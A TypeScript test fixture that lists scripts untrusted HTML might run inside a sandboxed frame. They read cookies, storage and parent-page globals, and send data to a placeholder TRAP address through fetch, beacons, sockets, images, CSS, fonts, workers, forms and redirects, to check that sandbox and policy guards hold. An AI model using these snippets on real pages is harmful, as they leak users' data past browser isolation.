/**
 * What HTML of an author tries from its frame. Each body of a function returns what it could read; what it sends goes to
 * the address TRAP, with its own name as the path.
 */
export interface Attempt {
  name: string
  /** Without which of the guards it succeeds; `both`: only without the sandbox and the policy. */
  guard: 'sandbox' | 'policy' | 'page' | 'both'
  script: string
  /** It ends its own frame, so that it cannot report. */
  leaves?: true
}

const attempt =
  (guard: Attempt['guard'], more: Partial<Attempt> = {}) =>
  (scripts: Readonly<Record<string, string>>): Attempt[] =>
    Object.entries(scripts).map(([name, script]) => ({ name, guard, script, ...more }))

const append = (tag: string, attributes: Readonly<Record<string, string>>, wait = 'load') => `
  const element = document.createElement('${tag}')
  Object.assign(element, ${JSON.stringify(attributes)})
  const done = new Promise((resolve) => { element.on${wait} = resolve; element.onerror = resolve })
  document.body.append(element)
  await Promise.race([done, later(1500)])`

const style = (css: string) => `
  const element = document.createElement('style')
  element.textContent = ${JSON.stringify(css)}
  document.head.append(element)
  const box = document.createElement('p')
  box.className = 'tried'
  box.textContent = 'tried'
  document.body.append(box)
  await later(300)`

export const htmlAttempts: readonly Attempt[] = [
  ...attempt('sandbox')({
    'the cookie': 'return document.cookie',
    'local storage': "return localStorage.getItem('secret')",
    'session storage': "return sessionStorage.getItem('secret')",
    'the document of the page': 'return parent.document.title',
    'a global of the page': 'return parent.secret',
    'the top window': 'return top.document.cookie',
    'the element of the frame': 'return frameElement.ownerDocument.title',
    'a function of the page': "return parent.eval('secret')",
    'the constructor of the page': "return parent.constructor.constructor('return secret')()",
    'a database of the browser': `
      const opening = indexedDB.open('secret')
      const base = await new Promise((resolve, reject) => { opening.onsuccess = () => resolve(opening.result); opening.onerror = reject })
      const read = base.transaction('kept').objectStore('kept').get('secret')
      return new Promise((resolve) => { read.onsuccess = () => resolve(read.result) })`,
    'a cache of the browser': `
      const found = await (await caches.open('secret')).match('/secret')
      return found.text()`,
    'a channel of the browser': `
      const channel = new BroadcastChannel('secret')
      const received = new Promise((resolve) => { channel.onmessage = ({ data }) => resolve(data) })
      channel.postMessage('tell')
      return Promise.race([received, later(1000)])`,
    'a dialog': "return prompt('secret')",
    'the history of the page':
      "parent.history.pushState(null, '', '/tried'); return parent.location.href + parent.secret",
  }),
  ...attempt('policy')({
    fetch: "await fetch('TRAP', { mode: 'no-cors' })",
    'fetch with keepalive': "await fetch('TRAP', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
    XMLHttpRequest: `
      const request = new XMLHttpRequest()
      request.open('GET', 'TRAP')
      request.send()
      await new Promise((resolve) => { request.onloadend = resolve })`,
    'a beacon': "navigator.sendBeacon('TRAP', 'x'); await later(300)",
    'server-sent events': `
      const events = new EventSource('TRAP')
      await new Promise((resolve) => { events.onerror = resolve; events.onopen = resolve })
      events.close()`,
    'a web socket': `
      const socket = new WebSocket('TRAP'.replace('http', 'ws'))
      await new Promise((resolve) => { socket.onerror = resolve; socket.onopen = resolve })`,
    'a picture': append('img', { src: 'TRAP' }),
    'a picture of a set': append('img', { srcset: 'TRAP 1x' }),
    'a script': append('script', { src: 'TRAP' }),
    'a module': "await import('TRAP').catch(() => undefined)",
    'a style sheet': append('link', { rel: 'stylesheet', href: 'TRAP' }),
    'an icon': append('link', { rel: 'prefetch', href: 'TRAP' }),
    'a preload': append('link', { rel: 'preload', as: 'image', href: 'TRAP' }),
    'a module preload': append('link', { rel: 'modulepreload', href: 'TRAP' }),
    'an import of a style': style("@import 'TRAP';"),
    'a background': style(".tried { background-image: url('TRAP') }"),
    'a font': style("@font-face { font-family: tried; src: url('TRAP') } .tried { font-family: tried }"),
    'a film': append('video', { src: 'TRAP' }, 'loadedmetadata'),
    'a sound': append('audio', { src: 'TRAP' }, 'loadedmetadata'),
    'an embedded object': append('embed', { src: 'TRAP', type: 'text/html' }),
    'a picture in a drawing': `
      document.body.insertAdjacentHTML('beforeend', '<svg><image href="TRAP" width="9" height="9"/></svg>')
      await later(500)`,
    'a worker that fetches': `
      const code = "fetch('TRAP', { mode: 'no-cors' }).finally(() => postMessage(1))"
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
      await Promise.race([new Promise((resolve) => { worker.onmessage = resolve; worker.onerror = resolve }), later(1500)])`,
    'a frame in the frame': append('iframe', { src: 'TRAP' }),
  }),
  ...attempt('both')({
    'a form': `
      document.body.insertAdjacentHTML('beforeend', '<form action="TRAP" target="_blank"><input name="a"></form>')
      document.forms[0].submit()
      await later(500)`,
  }),
  ...attempt('sandbox')({
    'a window of its own': "open('TRAP'); await later(500)",
    'a link to a new tab': `
      document.body.insertAdjacentHTML('beforeend', '<a href="TRAP" target="_blank" rel="opener">x</a>')
      document.querySelector('a').dispatchEvent(new MouseEvent('auxclick', { button: 1 }))
      open('TRAP', '_blank', 'noopener')
      await later(500)`,
    'the address of the page': "top.location.href = 'TRAP'; await later(500)",
    'the address of the page, replaced': "parent.location.replace('TRAP'); await later(500)",
    'a download': `
      document.body.insertAdjacentHTML('beforeend', '<a href="data:text/plain,x" download="tried.txt">x</a>')
      document.querySelector('a').onclick = (event) => event.stopPropagation()
      document.querySelector('a').click()
      await later(300)`,
  }),
  ...attempt('page', { leaves: true })({
    'its own address': "location.href = 'TRAP'",
    'its own address, assigned': "location.assign('TRAP')",
    'a refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=TRAP">')`,
    'a document that is written': `document.write('<meta http-equiv="refresh" content="0;url=TRAP">'); document.close()`,
  }),
]

/** The script of the block: it reports under its own name what it could read, or what was thrown. */
export const scriptOf = ({ script }: Attempt, trap: string, index: number): string => `
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
(async () => { ${script.replaceAll('TRAP', `${trap}/${index}`)} })().then(
  (got) => atrium.click({ index: ${index}, got: String(got) }),
  (error) => atrium.click({ index: ${index}, got: 'threw ' + error?.name }),
)`
